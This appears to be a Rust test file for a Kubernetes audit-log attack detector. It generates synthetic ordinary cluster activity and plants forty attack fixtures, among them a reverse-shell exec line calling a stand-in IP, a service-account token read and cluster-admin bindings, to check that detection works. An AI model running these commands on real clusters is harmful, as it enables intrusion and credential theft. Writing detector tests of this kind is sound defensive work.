//! The whole: an hour of ordinary life, attacks planted in it, and answers that depend on nothing but what happened.

use serde_json::{Value, json};

use super::plant::{Line, line, path, report, report_of, texts};
use super::*;

/// A small generator of numbers, the same for a seed.
struct Dice(u64);

impl Dice {
    fn below(&mut self, n: u64) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0 % n
    }

    fn shuffle<T>(&mut self, list: &mut [T]) {
        for i in (1..list.len()).rev() {
            list.swap(i, usize::try_from(self.below(i as u64 + 1)).unwrap());
        }
    }
}

fn template(image: &str) -> Value {
    json!({"metadata": {"name": "web"}, "spec": {"replicas": 2, "template": {"spec": {"containers": [{"name": "app", "image": image}], "serviceAccountName": "web"}}}})
}

/// What happens in an hour of any cluster: releases, scaling, a drain, controllers that start anew, people who look.
fn ordinary(dice: &mut Dice) -> Vec<Line> {
    let mut lines = Vec::new();
    let at = |dice: &mut Dice| i64::try_from(dice.below(7200)).unwrap();
    for n in 0..12 {
        let t = at(dice);
        let app = format!("app-{n}");
        let image = format!("registry.example/team/{app}:{n}");
        // kubectl apply: a look, then a patch; the controllers do the rest.
        lines.push(line("get", "deployments.apps").ns("shop").name(&app).at(t));
        lines.push(line("patch", "deployments.apps").ns("shop").name(&app).body(template(&image)).at(t + 1));
        lines.push(line("get", "secrets").ns("shop").name(&format!("{app}-env")).at(t + 1));
        lines.push(
            line("patch", "secrets")
                .ns("shop")
                .name(&format!("{app}-env"))
                .body(json!({"data": {"A": "Yg=="}}))
                .at(t + 2),
        );
        lines.push(
            line("create", "replicasets.apps")
                .ns("shop")
                .body(template(&image))
                .controller("deployment-controller")
                .at(t + 2),
        );
        let pod = format!("{app}-x{n}");
        let spec = json!({"metadata": {"name": pod}, "spec": {"containers": [{"name": "app", "image": image}], "serviceAccountName": "web"}});
        lines.push(line("create", "pods").ns("shop").body(spec).controller("replicaset-controller").at(t + 3));
        let node = format!("n{}", n % 3);
        let ip = format!("10.0.0.{}", n % 3 + 1);
        for (verb, kind, name) in
            [("get", "secrets", "web-env"), ("get", "configmaps", "web"), ("patch", "pods/status", pod.as_str())]
        {
            lines.push(line(verb, kind).ns("shop").name(name).node(&node, &ip).at(t + 4));
        }
        lines.push(
            line("create", "serviceaccounts/token")
                .ns("shop")
                .name("web")
                .node(&node, &ip)
                .at(t + 4)
                .set("/annotations/authentication.kubernetes.io~1issued-credential-id", format!("JTI=t{n}")),
        );
        for k in 0..5 {
            lines.push(
                line("get", "configmaps")
                    .ns("shop")
                    .name("web")
                    .account("shop", "web")
                    .pod(&format!("t{n}"), &pod, &node)
                    .ip(&format!("10.244.{}.{n}", n % 3))
                    .at(t + 10 + k * 60),
            );
        }
        // Scaling down and what follows.
        lines.push(
            line("patch", "deployments.apps/scale")
                .ns("shop")
                .name(&app)
                .body(json!({"spec": {"replicas": 1}}))
                .at(t + 600),
        );
        lines.push(line("delete", "pods").ns("shop").name(&pod).controller("replicaset-controller").at(t + 601));
        lines.push(
            line("delete", "pods")
                .ns("shop")
                .name(&pod)
                .node(&node, &ip)
                .body(json!({"gracePeriodSeconds": 0}))
                .at(t + 630),
        );
        lines.push(line("patch", "deployments.apps").ns("shop").name(&app).body(json!({"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": "now"}}}}})).at(t + 700));
    }
    for n in 0..3 {
        let t = at(dice);
        let node = format!("n{n}");
        // A drain: cordoned, pods evicted, uncordoned.
        lines.push(line("patch", "nodes").name(&node).body(json!({"spec": {"unschedulable": true}})).at(t));
        lines.push(line("list", "pods").at(t + 1));
        for p in 0..8 {
            lines.push(line("create", "pods/eviction").ns("shop").name(&format!("p{n}{p}")).at(t + 2 + p));
        }
        lines.push(line("patch", "nodes").name(&node).body(json!({"spec": {"unschedulable": null}})).at(t + 90));
        lines.push(
            line("patch", "nodes")
                .name(&node)
                .body(json!({"spec": {"taints": null}}))
                .controller("node-controller")
                .at(t + 91),
        );
        lines.push(line("patch", "nodes/status").name(&node).node(&node, &format!("10.0.0.{}", n + 1)).at(t + 92));
        // A controller that starts anew and fills its cache.
        for kind in ["secrets", "configmaps", "services", "ingresses.networking.k8s.io"] {
            let agent = |l: Line| l.account("ingress", "ingress-nginx-controller").at(t + 5);
            lines.push(agent(line("list", kind).uri(&format!("/api/v1/{kind}?limit=500&resourceVersion=0"))));
            lines.push(agent(line("watch", kind).uri(&format!("/api/v1/{kind}?watch=true&resourceVersion=77"))));
        }
        // One that lacks a right, and asks again and again.
        for k in 0..30 {
            lines.push(
                line("list", "runtimeclasses.node.k8s.io").account("monitoring", "agent").denied().at(t + k * 30),
            );
        }
        lines.push(
            line("update", "clusterroles.rbac.authorization.k8s.io")
                .name("admin")
                .controller("clusterrole-aggregation-controller")
                .at(t),
        );
        lines.push(
            line("update", "configmaps")
                .ns("kube-system")
                .name("extension-apiserver-authentication")
                .user("system:apiserver")
                .at(t),
        );
        lines.push(
            line("create", "jobs.batch")
                .ns("shop")
                .body(template("registry.example/team/job:1"))
                .controller("cronjob-controller")
                .at(t),
        );
        lines.push(line("create", "selfsubjectaccessreviews.authorization.k8s.io").at(t));
        lines.push(line("get", "pods/log").ns("shop").name("p1").at(t));
        lines.push(line("create", "ingresses.networking.k8s.io").ns("shop").name("i").at(t));
        lines.push(line("delete", "deployments.apps").ns("shop").name(&format!("old-{n}")).at(t));
        lines.push(line("list", "secrets").uri("/api/v1/secrets?labelSelector=owner%3Dhelm").agent("Helm/3.18").at(t));
        lines.push(
            line("patch", "deployments.apps")
                .ns("shop")
                .name("ci")
                .body(template("registry.example/team/ci:1"))
                .account("ci", "deployer")
                .ip("10.30.0.1")
                .at(t),
        );
        lines.push(path("/healthz").anonymous().at(t));
        lines.push(line("list", "pods").anonymous().denied().at(t));
        lines.push(line("create", "events").ns("shop").account("shop", "web").at(t));
        for kind in ["pods", "services", "deployments.apps", "nodes", "events", "configmaps"] {
            lines.push(line("list", kind).at(t));
        }
    }
    lines
}

/// Each detection, what sets it off, and by whom; after the first hour.
fn attacks() -> Vec<(&'static str, String, Vec<Line>)> {
    let mut all: Vec<(&'static str, String, Vec<Line>)> = Vec::new();
    let account = |l: Line, n: usize| l.account("shop", &format!("taken-{n}"));
    let mut add = |id: &'static str, lines: Vec<Line>| {
        let n = all.len();
        let lines: Vec<Line> = lines
            .into_iter()
            .map(|l| if l.0["user"]["username"] == "jane@example.org" { account(l, n) } else { l })
            .collect();
        let by = lines.last().unwrap().0["user"]["username"].as_str().unwrap().to_owned();
        all.push((id, by, lines));
    };
    let t = 8000;
    let pod =
        |spec: Value| line("create", "pods").ns("shop").body(json!({"metadata": {"name": "evil"}, "spec": spec})).at(t);
    let exec = |argv: &[&str]| line("get", "pods/exec").ns("shop").name("db-0").command(argv).at(t);
    let rbac = |kind: &str| line("create", &format!("{kind}.rbac.authorization.k8s.io")).at(t);
    let own = |n: i64, l: Line| l.account("shop", "web").pod("stolen", "web-s", "n1").at(t + n);
    add("secrets-listed-everywhere", vec![line("list", "secrets").uri("/api/v1/secrets").at(t)]);
    add("secrets-listed-elsewhere", vec![line("list", "secrets").ns("kube-system").at(t)]);
    add(
        "secrets-read-in-a-row",
        (0..4).map(|n| line("get", "secrets").ns("shop").name(&format!("s{n}")).at(t + n * 60)).collect(),
    );
    add(
        "secret-read-by-script",
        vec![line("get", "secrets").ns("shop").name("db").at(t).account("shop", "scripted").agent("curl/8")],
    );
    add("exec-in-pod", vec![exec(&["sh"])]);
    add("exec-for-credentials", vec![exec(&["cat", "/run/secrets/kubernetes.io/serviceaccount/token"])]);
    add("exec-reverse-shell", vec![exec(&["bash", "-c", "bash -i >& /dev/tcp/203.0.113.1/1 0>&1"])]);
    add("exec-copies-files", vec![exec(&["tar", "cf", "-", "/data"])]);
    add("port-forward", vec![line("create", "pods/portforward").ns("shop").name("db-0").at(t)]);
    add(
        "ephemeral-container",
        vec![
            line("patch", "pods/ephemeralcontainers")
                .ns("shop")
                .name("db-0")
                .body(json!({"spec": {"ephemeralContainers": [{"image": "x"}]}}))
                .at(t),
        ],
    );
    add("token-requested", vec![line("create", "serviceaccounts/token").ns("kube-system").name("coredns").at(t)]);
    add(
        "token-secret-created",
        vec![
            line("create", "secrets")
                .ns("shop")
                .body(json!({"metadata": {"name": "x"}, "type": "kubernetes.io/service-account-token"}))
                .at(t),
        ],
    );
    add(
        "node-proxy",
        vec![line("get", "nodes/proxy").name("n1").uri("/api/v1/nodes/n1/proxy/exec/shop/db-0/app?command=id").at(t)],
    );
    add("pod-proxy", vec![line("get", "services/proxy").ns("shop").name("db").at(t)]);
    add("privileged-container", vec![pod(json!({"containers": [{"securityContext": {"privileged": true}}]}))]);
    add("host-namespaces", vec![pod(json!({"hostPID": true}))]);
    add("host-path", vec![pod(json!({"volumes": [{"hostPath": {"path": "/"}}]}))]);
    add("workload-in-system-namespace", vec![pod(json!({})).ns("kube-system")]);
    add(
        "workload-by-account",
        vec![line("create", "daemonsets.apps").ns("shop").body(template("registry.example/team/x:1")).at(t)],
    );
    add(
        "workload-changed",
        vec![
            line("patch", "deployments.apps")
                .ns("shop")
                .name("app-1")
                .body(json!({"spec": {"template": {"spec": {"containers": [{"name": "app", "command": ["sh"]}]}}}}))
                .at(t),
        ],
    );
    add("binding-to-power", vec![rbac("clusterrolebindings").body(json!({"metadata": {"name": "x"}, "roleRef": {"name": "cluster-admin"}, "subjects": [{"kind": "User", "name": "eve"}]}))]);
    add(
        "role-of-power",
        vec![rbac("roles").ns("shop").body(
            json!({"metadata": {"name": "x"}, "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}),
        )],
    );
    add("rbac-by-account", vec![rbac("rolebindings").ns("shop").body(json!({"metadata": {"name": "x"}}))]);
    add(
        "binding-then-workload",
        vec![
            rbac("clusterrolebindings").body(json!({"metadata": {"name": "y"}, "roleRef": {"name": "z"}})),
            pod(json!({})).at(t + 100),
        ],
    );
    add("impersonation", vec![line("get", "nodes").name("n1").at(t).impersonating("x", &["system:masters"])]);
    add(
        "certificate-requested",
        vec![
            line("create", "certificatesigningrequests.certificates.k8s.io")
                .body(json!({"metadata": {"name": "c"}, "spec": {"signerName": "kubernetes.io/kube-apiserver-client"}}))
                .at(t),
        ],
    );
    add(
        "admission-changed",
        vec![line("delete", "validatingwebhookconfigurations.admissionregistration.k8s.io").name("policy").at(t)],
    );
    add("anonymous-allowed", vec![line("list", "pods").anonymous().at(t)]);
    add("enumeration", vec![line("create", "selfsubjectrulesreviews.authorization.k8s.io").at(t)]);
    add(
        "denied-burst",
        (0..9).map(|n| line("get", "pods").ns("shop").name(&format!("d{n}")).denied().at(t + n)).collect(),
    );
    add("evidence-removed", vec![line("deletecollection", "events").ns("shop").at(t)]);
    add("dns-changed", vec![line("patch", "configmaps").ns("kube-system").name("coredns").at(t)]);
    add("auth-config-changed", vec![line("patch", "configmaps").ns("kube-system").name("aws-auth").at(t)]);
    add("guard-relaxed", vec![line("delete", "networkpolicies.networking.k8s.io").ns("shop").name("deny").at(t)]);
    add(
        "exposed-to-outside",
        vec![
            line("patch", "services")
                .ns("shop")
                .name("db")
                .body(json!({"spec": {"externalIPs": ["198.51.100.1"]}}))
                .at(t),
        ],
    );
    add(
        "mass-delete",
        (0..8).map(|n| line("delete", "persistentvolumeclaims").ns("shop").name(&format!("v{n}")).at(t + n)).collect(),
    );
    add(
        "node-changed",
        vec![
            line("patch", "nodes").name("n2").user("system:node:n9").set("/user/groups", json!(["system:nodes"])).at(t),
        ],
    );
    add(
        "token-used-elsewhere",
        vec![
            own(0, line("get", "configmaps").ns("shop").name("web")).ip("10.244.1.77"),
            own(50, line("get", "configmaps").ns("shop").name("web")).ip("203.0.113.66"),
            own(90, line("get", "configmaps").ns("shop").name("web")).ip("10.244.1.77"),
        ],
    );
    add("image-new", vec![pod(json!({"containers": [{"image": "evil/miner"}]}))]);
    add(
        "quarantine-touched",
        vec![line("delete", "networkpolicies.networking.k8s.io").ns("shop").name("quell-quarantine-9").at(t)],
    );
    all
}

#[test]
fn an_hour_of_ordinary_life_is_quiet() {
    for seed in 1..=5 {
        let found = report(&ordinary(&mut Dice(seed)));
        let loud: Vec<&str> =
            found.findings.iter().filter(|f| f.severity > Severity::Low).map(|f| f.sentence.as_str()).collect();
        assert!(loud.is_empty(), "seed {seed}: {loud:#?}");
        assert!(!found.findings.is_empty() && found.sessions.len() > 5);
    }
}

#[test]
fn every_detection_has_an_attack_and_each_is_found_among_ordinary_life() {
    let planted = attacks();
    let ids: std::collections::BTreeSet<&str> = planted.iter().map(|(id, ..)| *id).collect();
    let detectors = Detectors::all();
    let known: std::collections::BTreeSet<String> = detectors.specs().map(|s| s.id.to_owned()).collect();
    assert_eq!(ids.len(), 40);
    assert_eq!(ids.iter().map(|i| (*i).to_owned()).collect::<std::collections::BTreeSet<_>>(), known);
    let culprits: Vec<&str> = planted.iter().map(|(_, by, _)| by.as_str()).collect();
    for seed in 1..=5 {
        let mut dice = Dice(seed);
        let mut lines = ordinary(&mut dice);
        lines.extend(planted.iter().flat_map(|(.., l)| l.clone()));
        dice.shuffle(&mut lines);
        let found = report(&lines);
        for (id, by, _) in &planted {
            let own: Vec<&Finding> = found.findings.iter().filter(|f| f.id == *id && f.subject.user == *by).collect();
            assert!(own.iter().any(|f| f.severity > Severity::Low), "seed {seed}: {id} by {by} is not found: {own:#?}");
        }
        for finding in found.findings.iter().filter(|f| f.severity > Severity::Low) {
            assert!(culprits.contains(&finding.subject.user.as_str()), "seed {seed}: invented: {}", finding.sentence);
        }
    }
}

/// Everything but where the lines lie, which is what differs.
fn told(report: Report) -> Value {
    fn without_place(value: &mut Value) {
        match value {
            Value::Object(map) => {
                for key in ["file", "offset", "len"] {
                    map.remove(key);
                }
                map.values_mut().for_each(without_place);
            }
            Value::Array(items) => items.iter_mut().for_each(without_place),
            _ => {}
        }
    }
    let mut value = serde_json::to_value(report).unwrap();
    without_place(&mut value);
    value
}

#[test]
fn the_answer_is_the_same_however_the_lines_lie() {
    let mut dice = Dice(7);
    let mut lines = ordinary(&mut dice);
    lines.extend(attacks().into_iter().flat_map(|(.., l)| l));
    let all = texts(&lines);
    let numbered: Vec<(usize, &str)> = all.iter().map(String::as_str).enumerate().collect();
    let expected = told(report_of(&Detectors::all(), &numbered));
    for seed in 1..=4 {
        let mut dice = Dice(seed);
        let mut other = numbered.clone();
        // A third of the lines is there twice, and everything in another order.
        other.extend(numbered.iter().filter(|_| dice.below(3) == 0).copied().collect::<Vec<_>>());
        dice.shuffle(&mut other);
        // On several threads.
        let detectors = Detectors::all();
        let parts: Vec<&[(usize, &str)]> = other.chunks(other.len() / 3 + 1).collect();
        let mut gathered = std::thread::scope(|scope| {
            let work: Vec<_> = parts
                .iter()
                .map(|part| {
                    scope.spawn(|| {
                        let mut mine = detectors.gather();
                        for (i, text) in *part {
                            let origin = crate::audit::event::Origin { file: 0, offset: *i as u64, len: 1 };
                            detectors.map(&crate::audit::parse_event(text, origin).unwrap(), &mut mine);
                        }
                        mine
                    })
                })
                .collect();
            work.into_iter().map(|w| w.join().unwrap()).collect::<Vec<_>>()
        });
        dice.shuffle(&mut gathered);
        let whole = gathered.into_iter().reduce(|mut a, b| {
            a.merge(b);
            a
        });
        let found = told(detectors.reduce(whole.unwrap()));
        for part in ["findings", "sessions", "unknowable", "limits"] {
            let (found, expected) = (found[part].as_array().unwrap(), expected[part].as_array().unwrap());
            for (one, other) in found.iter().zip(expected) {
                assert_eq!(one, other, "seed {seed}");
            }
            assert_eq!(found.len(), expected.len(), "seed {seed}: {part}");
        }
    }
}

#[test]
fn all_stages_of_a_request_are_one() {
    let exec = line("get", "pods/exec").ns("shop").name("db-0").set("/auditID", "one");
    let received = exec
        .clone()
        .set("/stage", "RequestReceived")
        .set("/responseStatus", Value::Null)
        .set("/annotations", json!({}));
    let denied = exec.clone().denied();
    let found = report(&[received.clone(), denied]);
    let finding = found.findings.iter().find(|f| f.id == "exec-in-pod").unwrap();
    assert_eq!((finding.count, finding.denied), (1, 1));
    let alone = report(&[received]);
    let finding = alone.findings.iter().find(|f| f.id == "exec-in-pod").unwrap();
    assert!(finding.sentence.contains("can't be known"), "{}", finding.sentence);
}

#[test]
fn a_client_that_repeats_its_audit_id_hides_nothing() {
    let get = |name: &str| line("get", "pods/exec").ns("shop").name(name).set("/auditID", "mine");
    let found = report(&[get("a"), get("b"), get("a").at(9)]);
    assert_eq!(found.findings.iter().find(|f| f.id == "exec-in-pod").unwrap().count, 3);
}

#[test]
fn hostile_text_is_cut_and_kept_as_text() {
    let long = "\u{1b}[2J€".repeat(200_000);
    let mut lines: Vec<Line> = (0..3000).map(|n| line("list", "secrets").agent(&format!("curl/{n}")).at(n)).collect();
    lines.push(line("get", "pods/exec").ns(&long).name(&long).user(&long).agent(&long).command(&[&long[..4000]]));
    lines.push(line("create", &format!("{}/x", "r".repeat(5000))).set("/auditID", long.clone()));
    let found = report(&lines);
    let text = serde_json::to_string(&found).unwrap();
    assert!(text.len() < 2_000_000, "{}", text.len());
    let longest = found.findings.iter().map(|f| f.sentence.len()).max().unwrap();
    assert!(longest < 3000, "{longest}");
    let session = found.sessions.iter().find(|s| s.user == "jane@example.org").unwrap();
    assert!(session.agents.len() <= 48 && session.more && session.requests == 3001);
}

#[test]
fn more_than_is_kept_is_said() {
    let lines: Vec<Line> = (0..17_000).map(|n| line("get", "pods/exec").ns("shop").name("p").at(n)).collect();
    let found = report(&lines);
    assert!(
        found.unknowable.iter().any(|u| u.id == "exec-in-pod" && u.blind == Blindness::Partly),
        "{:?}",
        found.unknowable
    );
    assert_eq!(found.findings.iter().find(|f| f.id == "exec-in-pod").unwrap().events.len(), 50);
}

#[test]
fn what_a_log_keeps_from_a_detection_is_said() {
    let meta = line("create", "pods").ns("shop").set("/level", "Metadata");
    let found = report(std::slice::from_ref(&meta));
    let of = |id: &str| found.unknowable.iter().find(|u| u.id == id).map(|u| (u.blind, u.why.clone()));
    let (blind, why) = of("privileged-container").unwrap();
    assert_eq!(blind, Blindness::Wholly);
    assert!(why.contains("without their bodies"), "{why}");
    assert_eq!(of("secrets-listed-everywhere").unwrap().0, Blindness::Unclear);
    assert_eq!(of("token-used-elsewhere").unwrap().0, Blindness::Wholly);
    let half = report(&[meta, line("create", "pods").ns("shop").body(json!({}))]);
    assert!(half.unknowable.iter().any(|u| u.id == "privileged-container" && u.blind == Blindness::Partly));
    let denied =
        report(&[line("create", "pods").ns("shop").denied(), line("create", "pods").ns("shop").body(json!({}))]);
    assert!(!denied.unknowable.iter().any(|u| u.id == "privileged-container"), "what is denied has no body");
}

#[test]
fn every_spec_is_whole() {
    let detectors = Detectors::all();
    let mut ids = std::collections::BTreeSet::new();
    for spec in detectors.specs() {
        assert!(ids.insert(spec.id.to_owned()), "{} twice", spec.id);
        assert!(
            spec.says.ends_with('.') && spec.step.ends_with('.') && spec.false_positives.ends_with('.'),
            "{}",
            spec.id
        );
        assert!(spec.says.contains("{who}") || spec.says.starts_with("Somebody"), "{}", spec.id);
        assert!(
            spec.techniques.split_whitespace().all(|t| t.starts_with('T')) && !spec.techniques.is_empty(),
            "{}",
            spec.id
        );
        assert!(spec.severity >= Severity::Medium, "{}", spec.id);
    }
}

/// The form that others read. `QUELL_BLESS=1` writes it anew; a change needs a new version.
#[test]
fn the_report_has_its_golden_form() {
    let lines = [
        line("create", "serviceaccounts/token")
            .ns("shop")
            .name("web")
            .node("n1", "10.0.0.1")
            .set("/annotations/authentication.kubernetes.io~1issued-credential-id", "JTI=one"),
        line("get", "configmaps").ns("shop").name("c").account("shop", "web").pod("one", "web-1", "n1").at(5),
        line("get", "pods/exec")
            .ns("shop")
            .name("db-0")
            .account("shop", "web")
            .pod("one", "web-1", "n1")
            .command(&["sh", "-c", "id"])
            .ip("203.0.113.9")
            .at(60),
        line("get", "configmaps").ns("shop").name("c").account("shop", "web").pod("one", "web-1", "n1").at(90),
        line("list", "secrets").at(30).impersonating("system:serviceaccount:kube-system:x", &[]).denied(),
    ];
    let mut found = report(&lines);
    found.unknowable.retain(|u| u.id == "privileged-container");
    let text = format!("{}\n", serde_json::to_string_pretty(&found).unwrap());
    let file = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/formats/v1/audit-report.json");
    if std::env::var_os("QUELL_BLESS").is_some() {
        std::fs::write(&file, &text).unwrap();
    }
    assert_eq!(text, std::fs::read_to_string(&file).unwrap());
    let back: Report = serde_json::from_str(&text).unwrap();
    assert_eq!(format!("{}\n", serde_json::to_string_pretty(&back).unwrap()), text);
}
